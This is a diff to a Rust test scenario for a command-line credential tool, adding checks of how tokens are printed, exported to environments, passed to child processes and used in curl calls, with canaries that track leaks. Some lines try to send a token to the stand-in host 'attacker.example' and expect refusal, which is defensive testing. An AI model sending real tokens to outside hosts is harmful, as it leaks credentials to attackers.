@@ -11,9 +11,13 @@ pub(super) fn play(line: &mut CommandLine<'_>, canaries: &mut Vec<Canary>) -> Re
     line.run(Call::new(&["token", "Places", "--json"]).asked_for(&["token"]))?;
     line.run(Call::new(&["header", "Places"]).asked_for(&["token"]))?;
     line.run(Call::new(&["header", "Places", "--only-authorization"]).asked_for(&["token"]))?;
+    for form in ["bearer", "headers", "powershell", "env", "postman"] {
+        line.run(Call::new(&["token", "Places", "--as", form]).asked_for(&["token"]))?;
+    }
     line.run(Call::new(&["token", "Places", "--curl"]))?;
     let with_secrets = ["token", "Places", "--curl", "--with-secrets"];
     line.run(Call::new(&with_secrets).asked_for(&["client secret"]))?;
+    for_programs(line, canaries)?;
     let signed = line.run(Call::new(&["token", "Campaign"]).asked_for(&["JWT token"]))?;
     canaries.push(Canary::token("JWT token", &signed)?);
     let renewed = ["token", "Campaign", "--renew"];
@@ -58,5 +62,45 @@ pub(super) fn play(line: &mut CommandLine<'_>, canaries: &mut Vec<Canary>) -> Re
     line.run_to_see(Call::new(&complete))?;
     // A host that may not see the token.
     line.run(Call::new(&["send", "Places", "https://attacker.example/", "--yes"]).fails())?;
+    Ok(())
+}
+
+/// In every form in which a program takes a token. What a child was given stands in its environment, where it is looked for
+/// and left out by the words in the child's arguments.
+fn for_programs(line: &mut CommandLine<'_>, canaries: &mut Vec<Canary>) -> Result<()> {
+    const URL: &str = "https://api-places.adobe.io/places/placesapi/v1/libraries";
+    let ttl = ["--min-ttl", "1h"];
+    let narrower = ["--scopes", "openid"];
+    let asked_for = ["narrower token"];
+    let token = ["token", "Places", ttl[0], ttl[1], narrower[0], narrower[1]];
+    let token = line.run(Call::new(&token).asked_for(&asked_for))?;
+    canaries.push(Canary::token("narrower token", &token)?);
+    for command in ["header", "env"] {
+        let call = [&[command, "Places"], &ttl[..], &narrower[..]].concat();
+        line.run(Call::new(&call).asked_for(&asked_for))?;
+    }
+    let dotenv = ["env", "Places", "--as", "dotenv", "--prefix", "ADOBE_"];
+    line.run(Call::new(&dotenv).asked_for(&["token"]))?;
+    line.run(Call::new(&["env", "Places", "--json", "--quiet"]).asked_for(&["token"]))?;
+
+    let exec = [&["exec"], &ttl[..], &narrower[..], &["--prefix", "X_", "Places"]].concat();
+    let child = ["--", "sh", "-c", "exit 7 # child with a token"];
+    line.run(Call::new(&[&exec[..], &child].concat()).fails())?;
+    let asks = "curl -s --noproxy '*' -H \"Authorization: Bearer $MUDBRICK_TOKEN_SECRET\" $MUDBRICK_TOKEN_URL";
+    let child = ["exec", "Places", "--serve", "--", "sh", "-c", asks];
+    line.run(Call::new(&child).asked_for(&["token"]))?;
+
+    line.run(Call::new(&["curl", "Places", "-s", URL]))?;
+    let call =
+        [&["curl"], &ttl[..], &narrower[..], &["--yes", "Places", "-s", "--json", "{}", URL]];
+    line.run(Call::new(&call.concat()))?;
+    line.run(Call::new(&["curl", "Places", "-v", URL]).fails())?;
+    line.run(Call::new(&["curl", "Places", "https://attacker.example/"]).fails())?;
+
+    line.run(Call::new(&["prompt", "Places"]))?;
+    let questions =
+        "{\"version\":1,\"profile\":\"Places\"}\n{\"version\":1,\"profile\":\"Nobody\"}\n";
+    let helper = Call::new(&["credential-helper"]).input(questions);
+    line.run(helper.fails().asked_for(&["token"]))?;
     Ok(())
 }
